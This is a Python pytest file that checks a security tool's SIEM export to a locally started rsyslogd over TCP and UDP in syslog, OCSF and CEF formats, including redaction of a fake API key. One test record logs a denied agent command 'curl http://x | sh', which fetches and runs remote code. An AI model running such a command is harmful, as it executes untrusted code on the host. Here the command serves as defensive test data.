"""SIEM export reaches a REAL rsyslogd (started here on 127.0.0.1 with its own config) intact.

CI: ``apt-get install -y rsyslog``; the test skips cleanly when ``rsyslogd`` is absent.
"""

from __future__ import annotations

import json
import shutil
import socket
import subprocess
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from clawfence.core.model import Finding, Location, Severity, Status
from clawfence.trail import siem as export

RSYSLOGD = shutil.which("rsyslogd") or ("/usr/sbin/rsyslogd" if Path("/usr/sbin/rsyslogd").exists() else None)
pytestmark = pytest.mark.skipif(RSYSLOGD is None, reason="rsyslogd not installed (apt-get install -y rsyslog)")


def _free_port(kind: int) -> int:
    with socket.socket(socket.AF_INET, kind) as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


@pytest.fixture
def rsyslog(tmp_path: Path) -> Iterator[tuple[int, int, Path]]:
    tcp, udp = _free_port(socket.SOCK_STREAM), _free_port(socket.SOCK_DGRAM)
    out = tmp_path / "received.log"
    conf = tmp_path / "rsyslog.conf"
    conf.write_text(f"""
global(workDirectory="{tmp_path}")
module(load="imtcp")
module(load="imudp")
input(type="imtcp" port="{tcp}" address="127.0.0.1")
input(type="imudp" port="{udp}" address="127.0.0.1")
template(name="fields" type="list") {{
  property(name="protocol-version") constant(value="|") property(name="app-name") constant(value="|")
  property(name="msgid") constant(value="|") property(name="structured-data") constant(value="|")
  property(name="msg") constant(value="\\n")
}}
*.* action(type="omfile" file="{out}" template="fields")
""")
    assert RSYSLOGD is not None
    proc = subprocess.Popen([RSYSLOGD, "-n", "-f", str(conf), "-i", str(tmp_path / "rsyslogd.pid")],
                            stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
    try:
        deadline = time.time() + 10
        while time.time() < deadline:
            try:
                socket.create_connection(("127.0.0.1", tcp), timeout=0.2).close()
                break
            except OSError:
                time.sleep(0.1)
        else:
            pytest.fail("rsyslogd did not start listening")
        yield tcp, udp, out
    finally:
        proc.terminate()
        proc.wait(timeout=10)


def _wait_lines(path: Path, n: int) -> list[str]:
    deadline = time.time() + 10
    while time.time() < deadline:
        if path.exists():
            lines = path.read_text().splitlines()
            if len(lines) >= n:
                return lines
        time.sleep(0.1)
    return path.read_text().splitlines() if path.exists() else []


def _finding() -> Finding:
    return Finding(id="TR003", title="Secret in a transcript in clear", severity=Severity.HIGH, status=Status.FAIL,
                   detail='key sk-ant-api03-ABCDEFGHIJKLMNOPQRSTUVWXYZ012345 seen; quote " and ] bracket',
                   subject='main:"quoted"]:call_1', location=Location(path="/x/s.jsonl", line=3),
                   guide=("E7.2",), remediation="rotate", cwe=("CWE-532",))


def test_syslog_tcp_and_udp_arrive_intact(rsyslog: tuple[int, int, Path]) -> None:
    tcp, udp, out = rsyslog
    item = export.from_finding(_finding())
    decision = export.from_record({"seq": 7, "ts": "2026-11-21T06:00:00+00:00", "type": "guard.decision",
                                   "hash": "ab" * 32, "data": {"decision": "deny", "tool": "exec",
                                                                "command": "curl http://x | sh"}})
    lines = list(export.render([item, decision], "syslog"))
    assert export.send(lines, f"tcp://127.0.0.1:{tcp}") == 2
    assert export.send(lines[:1], f"syslog://127.0.0.1:{udp}") == 1
    got = _wait_lines(out, 3)
    assert len(got) == 3, got
    findings = [x for x in got if x.split("|")[2] == "finding"]
    decisions = [x for x in got if x.split("|")[2] == "decision"]
    assert len(findings) == 2 and len(decisions) == 1
    ver, app, msgid, sd, msg = findings[0].split("|", 4)
    assert (ver, app, msgid) == ("1", "clawfence", "finding")
    assert sd.startswith("[clawfence@32473 ") and 'name="TR003"' in sd and 'guide="E7.2"' in sd
    assert '\\"' in sd and "\\]" in sd  # escaped quote and bracket survived
    assert "sk-ant-api03-ABCDEFGHIJKLMNOPQRSTUVWXYZ012345" not in "\n".join(got)  # redacted before sending
    assert "sk-a…(" in msg
    assert 'decision="deny"' in decisions[0] and 'tool="exec"' in decisions[0]
    assert findings[1] == findings[0]  # UDP copy identical to the TCP one


def test_jsonl_and_ocsf_payloads_over_tcp(rsyslog: tuple[int, int, Path]) -> None:
    tcp, _, out = rsyslog
    item = export.from_finding(_finding())
    # a JSON payload wrapped in a 5424 header, as SIEM pipelines do
    ocsf = json.dumps(export.to_ocsf(item), sort_keys=True)
    line = f"<110>1 2026-11-21T06:00:00Z host clawfence - ocsf - {ocsf}"
    export.send([line], f"tcp://127.0.0.1:{tcp}")
    got = _wait_lines(out, 1)
    doc = json.loads(got[0].split("|", 4)[4])
    assert doc["class_uid"] == 2004 and doc["finding_info"]["types"] == ["TR003"]


def test_cli_export_to_rsyslog(rsyslog: tuple[int, int, Path], tmp_path: Path) -> None:
    """``clawfence trail export --format syslog --to tcp://...`` over the real fixture transcript."""
    import os
    import subprocess
    import sys

    tcp, _, out = rsyslog
    fix = Path(__file__).resolve().parents[1] / "fixtures" / "trail" / "db-era"
    env = dict(os.environ, CLAWFENCE_HOME=str(tmp_path / "cf"),
               PYTHONPATH=str(Path(__file__).resolve().parents[2] / "src"))
    r = subprocess.run([sys.executable, "-m", "clawfence", "trail", "--state-dir", str(fix), "--no-logs", "export",
                        "--format", "syslog", "--what", "findings,events", "--to", f"tcp://127.0.0.1:{tcp}"],
                       capture_output=True, text=True, env=env, timeout=60)
    assert r.returncode == 0, r.stderr
    n = int(r.stderr.split()[1])
    got = _wait_lines(out, n)
    assert len(got) == n
    msgids = [x.split("|")[2] for x in got]
    assert msgids.count("finding") >= 1 and msgids.count("event") >= 10
    assert any('name="tool_call"' in x and 'tool="read"' in x for x in got)


def test_cef_over_tcp_has_a_syslog_header(rsyslog: tuple[int, int, Path]) -> None:
    """Sent to a syslog receiver, CEF lines carry an RFC 5424 header (real host, event time), so rsyslog parses
    them as clawfence/cef records instead of taking the CEF text for the header."""
    tcp, _, out = rsyslog
    item = export.from_finding(_finding())
    lines = list(export.render([item], "cef", network=True, hostname="gw-01"))
    assert export.send(lines, f"tcp://127.0.0.1:{tcp}") == 1
    got = _wait_lines(out, 1)
    ver, app, msgid, _sd, msg = got[0].split("|", 4)
    assert (ver, app, msgid) == ("1", "clawfence", "cef")
    assert msg.startswith("CEF:0|clawfence|clawfence|") and "sk-ant-api03-ABCDEFGH" not in msg
